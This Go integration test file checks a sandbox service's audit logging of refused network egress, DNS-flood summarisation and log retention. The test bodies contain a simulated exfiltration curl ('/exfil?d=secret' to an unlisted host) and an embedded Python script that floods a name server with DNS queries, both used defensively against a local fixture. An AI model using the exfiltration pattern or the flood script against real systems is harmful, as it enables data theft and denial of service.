package integration

import (
	"bufio"
	"compress/gzip"
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	corralaudit "github.com/corralhq/corral/internal/audit"
	"github.com/corralhq/corral/internal/egress"
	"github.com/corralhq/corral/internal/netns"
	"github.com/corralhq/corral/internal/server"
	corral "github.com/corralhq/corral/sdk/go"
	"github.com/corralhq/corral/test/testserver"
)

// TestAuditEgress proves the audit log's egress evidence end to end (issue
// 10 items 3 and 4), with real sandboxes, the real DNS filter and proxy and
// the network fixture of netenv_test.go (nothing leaves this machine).
func TestAuditEgress(t *testing.T) {
	need(t)
	fx := newNetFixture(t)
	t.Run("TaskAttribution", func(t *testing.T) { testAuditEgressTask(t, fx) })
	t.Run("Flood", func(t *testing.T) { testAuditFlood(t, fx) })
}

// cliAt runs the corral binary against server s.
func cliAt(t *testing.T, s *netServer, args ...string) (string, string, int) {
	t.Helper()
	return cliAs(t, s.ts.URL, s.ts.Key, "", args...)
}

// newTask creates a task that will not trip during a test: many calls
// allowed, no loop check (the tests repeat the same command on purpose).
func newTask(t *testing.T, s *netServer) string {
	t.Helper()
	tk, err := s.c.CreateTask(context.Background(), corral.TaskOptions{Agent: "audit-test", MaxCalls: 100000,
		MaxDuration: time.Hour, NoLoopCheck: true})
	if err != nil {
		t.Fatalf("create task: %v", err)
	}
	return tk.ID
}

// testAuditEgressTask: a prompt-injected agent's sandbox tries to send
// data to an unlisted domain (refused by the proxy) and to look up an
// unlisted name (refused by the DNS filter). Before, those events were
// stored with an empty task, so `corral audit --task` — the first thing
// an investigator runs — did not show the exfiltration attempt, and
// `--kind egress` matched no kind at all. Now both refused events carry
// the sandbox's task, and `corral audit --task T --kind egress` (the CLI,
// over the API) lists them.
func testAuditEgressTask(t *testing.T, fx *netFixture) {
	s := fx.srv
	task := newTask(t, s)
	sb := fx.newSandbox(t, s, corral.CreateOptions{Network: "allow", Allow: []string{hostAllowed}, Task: task})
	if r := curl(t, sb, "http://"+hostOther+"/exfil?d=secret"); r.Code != 403 {
		t.Fatalf("curl to unlisted %s: %+v, want 403 from the proxy", hostOther, r)
	}
	if r := runIn(t, sb, "getent hosts unlisted-exfil.test"); r.ExitCode != 2 {
		t.Fatalf("getent of an unlisted name: exit %d, want 2", r.ExitCode)
	}
	type cliEvent struct {
		Sandbox string `json:"sandbox"`
		Task    string `json:"task"`
		Kind    string `json:"kind"`
		Data    struct {
			Host    string `json:"host"`
			Verdict string `json:"verdict"`
		} `json:"data"`
	}
	var evs []cliEvent
	deadline := time.Now().Add(30 * time.Second)
	for {
		out, errOut, code := cliAt(t, s, "audit", "--task", task, "--kind", "egress", "--json")
		if code != 0 {
			t.Fatalf("corral audit --task %s --kind egress: exit %d: %s", task, code, errOut)
		}
		evs = evs[:0]
		for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
			if line == "" {
				continue
			}
			var e cliEvent
			if err := json.Unmarshal([]byte(line), &e); err != nil {
				t.Fatalf("audit line %q: %v", line, err)
			}
			evs = append(evs, e)
		}
		var http, dns bool
		for _, e := range evs {
			if e.Task != task || e.Sandbox != sb.ID || !strings.HasPrefix(e.Kind, "egress.") {
				t.Fatalf("corral audit --task %s --kind egress listed %+v", task, e)
			}
			http = http || (e.Kind == "egress.http" && e.Data.Host == hostOther && e.Data.Verdict == "refused")
			dns = dns || (e.Kind == "egress.dns" && e.Data.Host == "unlisted-exfil.test" && e.Data.Verdict == "refused")
		}
		if http && dns {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("corral audit --task %s --kind egress: want the refused egress.http to %s and egress.dns of unlisted-exfil.test; got %+v",
				task, hostOther, evs)
		}
		time.Sleep(200 * time.Millisecond)
	}
}

// floodScript sends argv[1] DNS A queries for refused names to the
// sandbox's name server (corral's DNS filter on the host, from
// /etc/resolv.conf) from argv[2] processes as fast as they can, without
// waiting for answers (the flood that hurts others most), counts the
// answers that come back (draining them as it goes, then for up to 1 s of
// silence after the last query) and prints "answered N" per process.
const floodScript = `import os, socket, struct, sys
ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
total, workers = int(sys.argv[1]), int(sys.argv[2])
def query(i, name):
    q = b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\0'
    return struct.pack('>HHHHHH', i & 0xffff, 0x0100, 1, 0, 0, 0) + q + struct.pack('>HH', 1, 1)
kids = []
for w in range(workers):
    pid = os.fork()
    if pid:
        kids.append(pid)
        continue
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((ns, 53))
    s.setblocking(False)
    ok = 0
    def drain():
        global ok
        try:
            while True:
                s.recv(4096)
                ok += 1
        except (BlockingIOError, ConnectionRefusedError):
            pass
    for i in range(total // workers):
        try:
            s.send(query(i, 'flood-%d.blocked.test' % (i % 7)))
        except (BlockingIOError, ConnectionRefusedError):
            pass
        if i % 64 == 0:
            drain()
    s.setblocking(True)
    s.settimeout(1)
    try:
        while True:
            s.recv(4096)
            ok += 1
    except (socket.timeout, ConnectionRefusedError):
        pass
    os.write(1, b'answered %d\n' % ok)
    os._exit(0)
for pid in kids:
    os.waitpid(pid, 0)
`

// testAuditFlood: a sandbox sends 100 000 DNS queries for refused names
// as fast as it can (a looping agent, or DNS exfiltration by brute
// force); the kernel drops what exceeds the sandbox's DNS packet limit. Before, each was
// an audit event and a log line, so the flood filled the audit log (and
// the queue all sandboxes' events share) with 100 000 events. Now the
// flooding sandbox's events stay bounded — at most
// egress.DefaultSummaryAfter refusals one by one per minute, the rest
// counted in egress.summary events with counts and the top names, which
// carry the sandbox's task — and nothing is lost: the events and the
// summaries' counts account for every answered query. Meanwhile another
// sandbox keeps resolving an allowed name and running commands, and each
// of its lookups and commands succeeds.
func testAuditFlood(t *testing.T, fx *netFixture) {
	const queries, workers = 100000, 4
	s := fx.srv
	floodTask, otherTask := newTask(t, s), newTask(t, s)
	flooder := fx.newSandbox(t, s, corral.CreateOptions{Network: "allow", Allow: []string{hostAllowed}, Task: floodTask})
	other := fx.newSandbox(t, s, corral.CreateOptions{Network: "allow", Allow: []string{hostAllowed}, Task: otherTask})
	if err := flooder.Files().Write(context.Background(), "/tmp/flood.py", []byte(floodScript)); err != nil {
		t.Fatal(err)
	}
	up := fx.up.addr.String()

	var wg sync.WaitGroup
	var flood *corral.CommandResult
	var floodErr error
	done := make(chan struct{})
	start := time.Now()
	wg.Add(1)
	go func() {
		defer wg.Done()
		defer close(done)
		flood, floodErr = flooder.Run(context.Background(), fmt.Sprintf("python3 /tmp/flood.py %d %d", queries, workers),
			corral.RunOptions{Timeout: 15 * time.Minute})
	}()
	// The other sandbox works while the flood lasts (and at least once),
	// a few rounds a second: each round is two queries (A and AAAA), and
	// the sandbox's own DNS rate limit (egress.DefaultDNSRate a second)
	// must not be what refuses it.
	rounds := 0
	var slowest time.Duration
	for {
		t0 := time.Now()
		res := runIn(t, other, "getent hosts "+hostAllowed+" && echo still-working")
		if res.ExitCode != 0 || !strings.HasPrefix(res.Stdout, up+" ") || !strings.Contains(res.Stdout, "still-working") {
			t.Fatalf("round %d during the flood: getent hosts %s: exit %d %q %q; want %s", rounds, hostAllowed, res.ExitCode, res.Stdout, res.Stderr, up)
		}
		slowest = max(slowest, time.Since(t0))
		rounds++
		select {
		case <-done:
		case <-time.After(250 * time.Millisecond):
			continue
		}
		break
	}
	wg.Wait()
	took := time.Since(start)
	if floodErr != nil || flood.ExitCode != 0 {
		t.Fatalf("flood: %v %+v", floodErr, flood)
	}
	answered := 0
	for _, line := range strings.Split(strings.TrimSpace(flood.Stdout), "\n") {
		n, err := strconv.Atoi(strings.TrimPrefix(line, "answered "))
		if err != nil {
			t.Fatalf("flood output %q", flood.Stdout)
		}
		answered += n
	}
	t.Logf("flood: %d of %d queries answered in %v from %d processes; the other sandbox did %d rounds meanwhile (slowest %v)",
		answered, queries, took.Round(time.Millisecond), workers, rounds, slowest.Round(time.Millisecond))
	// The kernel lets netns.DNSPacketBurst queries plus netns.DNSPacketRate
	// a second through to the filter; the rest are dropped before it (and
	// answers the flooder is too busy to read are lost on its side). What
	// was answered must be far more than the summariser records one by
	// one, so that the bound below proves the summaries.
	if min := 4 * egress.DefaultSummaryAfter; answered < min || answered >= queries {
		t.Fatalf("%d of %d flood queries answered: want at least %d (the filter served the flood) and fewer than all (the kernel's per-sandbox DNS limit of %d a second, burst %d)",
			answered, queries, min, netns.DNSPacketRate, netns.DNSPacketBurst)
	}
	// Ending the sandbox ends its summary window.
	if _, err := s.c.Kill(context.Background(), flooder.ID); err != nil {
		t.Fatalf("kill the flooder: %v", err)
	}

	var evs []corral.Event
	var summarised, individual int
	var topNames map[string]bool
	deadline := time.Now().Add(30 * time.Second)
	for {
		var err error
		evs, err = s.c.Audit(context.Background(), corral.AuditQuery{Sandbox: flooder.ID})
		if err != nil {
			t.Fatalf("audit: %v", err)
		}
		summarised, individual, topNames = 0, 0, map[string]bool{}
		ended := false
		for _, ev := range evs {
			switch ev.Kind {
			case "egress.dns":
				var d struct{ Host, Verdict string }
				_ = json.Unmarshal(ev.Data, &d)
				if d.Verdict == "refused" && strings.HasSuffix(d.Host, ".blocked.test") {
					individual++
				}
			case "egress.summary":
				var d struct {
					Suppressed int            `json:"suppressed"`
					ByMode     map[string]int `json:"by_mode"`
					TopNames   []egress.Count `json:"top_names"`
				}
				if err := json.Unmarshal(ev.Data, &d); err != nil {
					t.Fatalf("summary %s: %v", ev.Data, err)
				}
				if ev.Task != floodTask {
					t.Fatalf("summary event of task %q, want the sandbox's task %s", ev.Task, floodTask)
				}
				summarised += d.ByMode[egress.EventDNS]
				for _, n := range d.TopNames {
					topNames[n.Name] = true
				}
			case "sandbox.ended":
				ended = true
			}
		}
		if ended && individual+summarised >= answered {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("%d events of the flooder: %d refused DNS events and %d summarised refusals account for fewer than the %d answered queries (ended %v)",
				len(evs), individual, summarised, answered, ended)
		}
		time.Sleep(200 * time.Millisecond)
	}
	// At most DefaultSummaryAfter+1 egress events per minute the flood
	// lasted (and one more window), plus the sandbox's own events.
	windows := int(took/egress.DefaultSummaryInterval) + 2
	bound := windows*(egress.DefaultSummaryAfter+1) + 20
	t.Logf("flooder: %d audit events (%d refused DNS events one by one, %d refusals summarised), bound %d", len(evs), individual, summarised, bound)
	if len(evs) > bound {
		t.Fatalf("the flooder has %d audit events, want at most %d", len(evs), bound)
	}
	if !topNames["flood-0.blocked.test"] || !topNames["flood-6.blocked.test"] {
		t.Fatalf("summaries' top names %v, want the flood's names", topNames)
	}
	// The other sandbox's events were not summarised away.
	oevs, err := s.c.Audit(context.Background(), corral.AuditQuery{Sandbox: other.ID, Kind: "egress.dns"})
	if err != nil {
		t.Fatal(err)
	}
	allowed := 0
	for _, ev := range oevs {
		if ev.Task != otherTask {
			t.Fatalf("other sandbox's event of task %q, want %s", ev.Task, otherTask)
		}
		if strings.Contains(string(ev.Data), `"verdict":"allowed"`) {
			allowed++
		}
	}
	if allowed < rounds {
		t.Fatalf("the other sandbox has %d allowed DNS events for %d lookups", allowed, rounds)
	}
}

// TestAuditRetention defends against the audit log and the command
// records growing without end (issue 10 item 4), on a real server with
// small bounds (40 events, 5 command records, a prune every 300 ms): the
// retention deletes the oldest events and records, every deleted event
// is in the archive first (archive plus what is left covers every id,
// none twice: nothing is lost), one audit.pruned event says what went,
// and `corral audit export --out` writes exactly the events that are
// left, as JSON Lines.
func TestAuditRetention(t *testing.T) {
	need(t)
	ts, err := testserver.StartWith("../../cmd/corral", slog.LevelWarn, func(c *server.Config) {
		c.NoNetwork = true
		c.AuditRetention = corralaudit.Retention{MaxEvents: 40, MaxCommands: 5, Interval: 300 * time.Millisecond}
	})
	if err != nil {
		t.Fatalf("start server: %v", err)
	}
	t.Cleanup(func() { ts.Close() })
	s := &netServer{ts: ts, c: corral.New(ts.URL, ts.Key)}
	ctx := context.Background()
	task := newTask(t, s)
	sb, err := s.c.Create(ctx, corral.CreateOptions{Task: task, Timeout: 10 * time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _, _ = s.c.Kill(context.Background(), sb.ID) })
	for i := 0; i < 60; i++ {
		if res, err := sb.Run(ctx, fmt.Sprintf("echo %d", i), corral.RunOptions{}); err != nil || res.ExitCode != 0 {
			t.Fatalf("command %d: %v %+v", i, err, res)
		}
	}
	commands := func() int {
		req, _ := http.NewRequest("GET", ts.URL+"/v1/sandboxes/"+sb.ID+"/commands", nil)
		req.Header.Set("X-API-Key", ts.Key)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var out struct{ Commands []json.RawMessage }
		if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
			t.Fatal(err)
		}
		return len(out.Commands)
	}
	archiveDir := filepath.Join(ts.DataDir, "audit-archive")
	archived := func() map[int64]int {
		ids := map[int64]int{}
		files, _ := filepath.Glob(filepath.Join(archiveDir, "events-*.jsonl.gz"))
		for _, name := range files {
			f, err := os.Open(name)
			if err != nil {
				t.Fatal(err)
			}
			zr, err := gzip.NewReader(f)
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			sc := bufio.NewScanner(zr)
			sc.Buffer(nil, 1<<20)
			for sc.Scan() {
				var ev corral.Event
				if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
					t.Fatalf("%s: %q: %v", name, sc.Text(), err)
				}
				ids[ev.ID]++
			}
			f.Close()
		}
		return ids
	}
	var left []corral.Event
	deadline := time.Now().Add(60 * time.Second)
	for {
		left, err = s.c.Audit(ctx, corral.AuditQuery{Team: "all"})
		if err != nil {
			t.Fatal(err)
		}
		pruned := 0
		for _, ev := range left {
			if ev.Kind == "audit.pruned" {
				pruned++
			}
		}
		// Settled: pruned, within the bound (plus the audit.pruned
		// events made since the last prune) and the records trimmed.
		if pruned > 0 && len(left) <= 40+pruned && commands() <= 5 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("%d events, %d audit.pruned, %d command records: the retention did not bound them", len(left), pruned, commands())
		}
		time.Sleep(200 * time.Millisecond)
	}
	// Stop pruning concurrently with the comparison: nothing new happens
	// on this server now except audit.pruned events, which come after.
	arch := archived()
	if len(arch) < 20 { // 60 command events alone, and 40 kept
		t.Fatalf("the archive holds %d events, want at least 20", len(arch))
	}
	var maxID int64
	for id, n := range arch {
		if n != 1 {
			t.Fatalf("event %d archived %d times", id, n)
		}
		maxID = max(maxID, id)
	}
	for _, ev := range left {
		if arch[ev.ID] != 0 {
			t.Fatalf("event %d is both archived and left", ev.ID)
		}
		arch[ev.ID] = 1
		maxID = max(maxID, ev.ID)
	}
	for id := int64(1); id <= left[len(left)-1].ID; id++ {
		if arch[id] == 0 {
			t.Fatalf("event %d is neither in the archive nor left: lost by the retention", id)
		}
	}
	var d struct {
		Events  int64  `json:"events"`
		Reason  string `json:"reason"`
		Archive string `json:"archive"`
	}
	var prunedEvents, prunedCommands int64
	for _, ev := range left {
		if ev.Kind != "audit.pruned" {
			continue
		}
		d.Events, d.Reason, d.Archive = 0, "", ""
		var cmds struct{ Commands int64 }
		if err := json.Unmarshal(ev.Data, &d); err != nil || json.Unmarshal(ev.Data, &cmds) != nil {
			t.Fatalf("audit.pruned %s: %v", ev.Data, err)
		}
		prunedCommands += cmds.Commands
		if d.Events > 0 {
			if d.Reason != "size" || !strings.HasPrefix(d.Archive, archiveDir+"/") {
				t.Fatalf("audit.pruned %s: want reason size and a file in %s", ev.Data, archiveDir)
			}
			prunedEvents += d.Events
		}
	}
	// Earlier audit.pruned events may themselves have been pruned.
	if prunedEvents == 0 || prunedCommands == 0 {
		t.Fatalf("the audit.pruned events left say %d events and %d command records went", prunedEvents, prunedCommands)
	}

	out := filepath.Join(t.TempDir(), "export.jsonl")
	_, errOut, code := cliAt(t, s, "audit", "export", "--team", "all", "--out", out, "--since", "1h")
	if code != 0 {
		t.Fatalf("corral audit export: exit %d %s", code, errOut)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(string(b)), "\n")
	first := lines[0]
	var ev corral.Event
	if err := json.Unmarshal([]byte(first), &ev); err != nil || ev.ID == 0 || ev.Kind == "" {
		t.Fatalf("export line %q: %v", first, err)
	}
	now, err := s.c.Audit(ctx, corral.AuditQuery{Team: "all", After: ev.ID - 1})
	if err != nil {
		t.Fatal(err)
	}
	if len(lines) > len(now) || len(lines) < len(now)-2 {
		t.Fatalf("export wrote %d events, the log has %d from id %d", len(lines), len(now), ev.ID)
	}
	if fi, err := os.Stat(out); err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("export file: %v %v", fi, err)
	}
	t.Logf("%d events archived, %d left, export %d lines (%s)", len(archived()), len(left), len(lines), errOut)
}
